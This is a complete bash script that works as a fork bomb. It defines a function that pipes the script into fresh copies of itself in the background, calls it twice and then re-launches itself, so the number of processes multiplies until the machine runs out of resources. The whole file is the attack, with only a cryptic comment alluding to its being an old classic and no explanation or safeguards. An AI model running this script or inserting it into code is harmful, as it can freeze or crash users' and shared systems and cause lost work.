#!/bin/bash
# The oldest of them, and one of commands.
bomb() { bash "$0" | bash "$0" & }
bomb
bomb
wait
bash "$0"
